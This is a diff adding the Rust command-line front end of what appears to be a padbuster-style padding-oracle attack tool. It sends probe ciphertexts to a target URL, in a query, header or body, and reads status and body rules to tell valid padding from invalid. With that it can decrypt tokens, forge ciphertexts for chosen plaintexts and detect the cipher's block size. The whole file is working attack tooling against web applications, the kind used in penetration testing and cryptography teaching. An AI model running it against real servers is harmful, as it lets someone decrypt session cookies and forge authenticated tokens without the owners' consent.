@@ -0,0 +1,273 @@
+//! Exploit a padding oracle behind a web server from the command line, like padbuster.
+
+use std::process::ExitCode;
+use std::time::Duration;
+
+use padding_oracle::http::{self, Encoding, HttpOracle, Request, Rule};
+use padding_oracle::{util, DecryptOptions, PaddingScheme, ProgressCallback};
+
+const USAGE: &str = "\
+Usage: padding-oracle <decrypt|encrypt|detect> --url URL [OPTIONS]
+
+Modes:
+  decrypt                  Decrypt the --ciphertext, with the IV prepended
+  encrypt                  Forge a ciphertext decrypting to the --plaintext
+  detect                   Find out the blocksize of the cipher
+
+Request, with {ciphertext} wherever the encoded probe goes:
+  -u, --url URL            The target, such as http://host/page?token={ciphertext}
+  -X, --method METHOD      The HTTP method, GET by default, or POST with --data
+  -H, --header HEADER      An extra header, such as \"Cookie: session={ciphertext}\"
+  -d, --data BODY          The body of the request
+
+Match rule, telling whether the padding was valid. Several rules must all match. Without any,
+the padding errors are found out from the --ciphertext:
+  --valid-status CODE      The response has this status
+  --invalid-status CODE    The response doesn't have this status
+  --valid-body TEXT        The body contains this text
+  --invalid-body TEXT      The body doesn't contain this text
+
+Options:
+  -c, --ciphertext BLOB    The encoded ciphertext to decrypt
+  -p, --plaintext TEXT     The plaintext to encrypt
+  -e, --encoding ENCODING  hex, HEX, base64, base64url or urltoken (ASP.NET),
+                           base64 by default
+  -b, --blocksize SIZE     The blocksize of the cipher, 16 by default
+      --hex                Print the plaintext as hex
+  -q, --quiet              Don't show the progress
+  -h, --help               Show this help";
+
+/// What to run, from the command line arguments
+#[derive(Debug)]
+struct Args {
+    mode: String,
+    request: Request,
+    rules: Vec<Rule>,
+    encoding: Encoding,
+    blocksize: usize,
+    ciphertext: Option<String>,
+    plaintext: Option<String>,
+    hex: bool,
+    quiet: bool,
+}
+
+impl Args {
+    fn parse(mut args: impl Iterator<Item = String>) -> Result<Self, String> {
+        let mut parsed = Self {
+            mode: String::new(),
+            request: Request::get(""),
+            rules: Vec::new(),
+            encoding: Encoding::Base64,
+            blocksize: 16,
+            ciphertext: None,
+            plaintext: None,
+            hex: false,
+            quiet: false,
+        };
+        let mut method = None;
+
+        while let Some(arg) = args.next() {
+            let mut value = || args.next().ok_or(format!("{arg} needs a value"));
+            let status = |value: String| {
+                value
+                    .parse::<u16>()
+                    .map_err(|_| format!("invalid status code: {value}"))
+            };
+
+            match arg.as_str() {
+                "-h" | "--help" => return Err(String::new()),
+                "-u" | "--url" => parsed.request.url = value()?,
+                "-X" | "--method" => method = Some(value()?),
+                "-H" | "--header" => {
+                    let header = value()?;
+                    let (name, value) = header
+                        .split_once(':')
+                        .ok_or(format!("invalid header: {header}"))?;
+
+                    parsed
+                        .request
+                        .headers
+                        .push((name.trim().into(), value.trim().into()));
+                }
+                "-d" | "--data" => parsed.request.body = value()?,
+                "--valid-status" => parsed.rules.push(Rule::Status(status(value()?)?)),
+                "--invalid-status" => parsed
+                    .rules
+                    .push(Rule::Not(Box::new(Rule::Status(status(value()?)?)))),
+                "--valid-body" => parsed.rules.push(Rule::BodyContains(value()?)),
+                "--invalid-body" => parsed
+                    .rules
+                    .push(Rule::Not(Box::new(Rule::BodyContains(value()?)))),
+                "-c" | "--ciphertext" => parsed.ciphertext = Some(value()?),
+                "-p" | "--plaintext" => parsed.plaintext = Some(value()?),
+                "-e" | "--encoding" => {
+                    parsed.encoding = match value()?.as_str() {
+                        "hex" => Encoding::Hex,
+                        "HEX" => Encoding::UpperHex,
+                        "base64" => Encoding::Base64,
+                        "base64url" => Encoding::Base64Url,
+                        "urltoken" => Encoding::UrlToken,
+                        encoding => return Err(format!("unknown encoding: {encoding}")),
+                    }
+                }
+                "-b" | "--blocksize" => {
+                    let blocksize = value()?;
+                    parsed.blocksize = blocksize
+                        .parse()
+                        .map_err(|_| format!("invalid blocksize: {blocksize}"))?;
+                }
+                "--hex" => parsed.hex = true,
+                "-q" | "--quiet" => parsed.quiet = true,
+                _ if parsed.mode.is_empty() && !arg.starts_with('-') => parsed.mode = arg,
+                _ => return Err(format!("unexpected argument: {arg}")),
+            }
+        }
+
+        parsed.request.method = match method {
+            Some(method) => method,
+            None if !parsed.request.body.is_empty() => "POST".into(),
+            None => "GET".into(),
+        };
+
+        if parsed.mode.is_empty() {
+            return Err("missing mode".into());
+        }
+
+        if parsed.request.url.is_empty() {
+            return Err("missing --url".into());
+        }
+
+        if parsed.rules.is_empty() && parsed.ciphertext.is_none() {
+            return Err("missing match rule, such as --invalid-status 500".into());
+        }
+
+        Ok(parsed)
+    }
+}
+
+/// Find out what the padding errors look like, from the ciphertext to decrypt
+fn calibrate(args: &Args) -> Result<Rule, String> {
+    let encoded = args.ciphertext.as_ref().expect("checked by Args::parse");
+    let ciphertext = args
+        .encoding
+        .decode(encoded)
+        .ok_or("the ciphertext isn't properly encoded")?;
+
+    let calibration = http::calibrate(&args.request, args.encoding, &ciphertext, args.blocksize)
+        .map_err(|e| e.to_string())?;
+
+    if !args.quiet {
+        let invalid = calibration.invalid();
+        eprintln!(
+            "Padding errors: status {}, {} bytes long",
+            invalid.status, invalid.length
+        );
+    }
+
+    Ok(calibration.rule())
+}
+
+fn run(mut args: Args) -> Result<(), String> {
+    let rule = match <[Rule; 1]>::try_from(std::mem::take(&mut args.rules)) {
+        Ok([rule]) => rule,
+        Err(rules) if rules.is_empty() => calibrate(&args)?,
+        Err(rules) => Rule::All(rules),
+    };
+    let oracle = HttpOracle::new(args.request, args.encoding, rule).map_err(|e| e.to_string())?;
+
+    match args.mode.as_str() {
+        "decrypt" => {
+            let encoded = args.ciphertext.ok_or("missing --ciphertext")?;
+            let ciphertext = args
+                .encoding
+                .decode(&encoded)
+                .ok_or("the ciphertext isn't properly encoded")?;
+
+            let blocksize = args.blocksize;
+            let options = DecryptOptions {
+                progress: (!args.quiet).then(|| {
+                    ProgressCallback::new(move |progress| {
+                        let eta = progress.eta.map_or(String::new(), |eta| {
+                            format!(", ETA {}", format_duration(eta))
+                        });
+
+                        eprint!(
+                            "\rBlock {}/{}, {:.0}%, {} queries{eta}   ",
+                            progress.recovered.div_ceil(blocksize),
+                            progress.total / blocksize,
+                            progress.fraction() * 100.0,
+                            progress.queries,
+                        );
+                    })
+                }),
+                ..Default::default()
+            };
+
+            let plaintext =
+                padding_oracle::decrypt_with_options(&ciphertext, args.blocksize, oracle, &options);
+            if !args.quiet {
+                eprintln!();
+            }
+
+            let plaintext = plaintext.map_err(|e| e.to_string())?;
+            let plaintext = PaddingScheme::Pkcs7.unpad(&plaintext).unwrap_or(&plaintext);
+
+            if args.hex {
+                println!("{}", util::to_hex(plaintext));
+            } else {
+                println!("{}", String::from_utf8_lossy(plaintext));
+            }
+        }
+        "encrypt" => {
+            let plaintext = args.plaintext.ok_or("missing --plaintext")?;
+
+            if !args.quiet {
+                eprintln!("Forging the ciphertext, this takes a while...");
+            }
+
+            let ciphertext = padding_oracle::encrypt(plaintext.as_bytes(), args.blocksize, oracle)
+                .map_err(|e| e.to_string())?;
+            println!("{}", args.encoding.encode(&ciphertext));
+        }
+        "detect" => match padding_oracle::detect_blocksize(oracle, 2 * args.blocksize.max(16)) {
+            Ok(Some(blocksize)) => println!("{blocksize}"),
+            Ok(None) => return Err("couldn't find out the blocksize".into()),
+            Err(e) => return Err(e.to_string()),
+        },
+        mode => return Err(format!("unknown mode: {mode}")),
+    }
+
+    Ok(())
+}
+
+/// A duration such as `1h05m`, `12m` or `40s`
+fn format_duration(duration: Duration) -> String {
+    let secs = duration.as_secs();
+
+    match (secs / 3600, secs / 60 % 60) {
+        (0, 0) => format!("{secs}s"),
+        (0, minutes) => format!("{minutes}m"),
+        (hours, minutes) => format!("{hours}h{minutes:02}m"),
+    }
+}
+
+fn main() -> ExitCode {
+    let args = match Args::parse(std::env::args().skip(1)) {
+        Ok(args) => args,
+        Err(e) => {
+            if !e.is_empty() {
+                eprintln!("error: {e}\n");
+            }
+            eprintln!("{USAGE}");
+            return ExitCode::from(2);
+        }
+    };
+
+    match run(args) {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(e) => {
+            eprintln!("error: {e}");
+            ExitCode::FAILURE
+        }
+    }
+}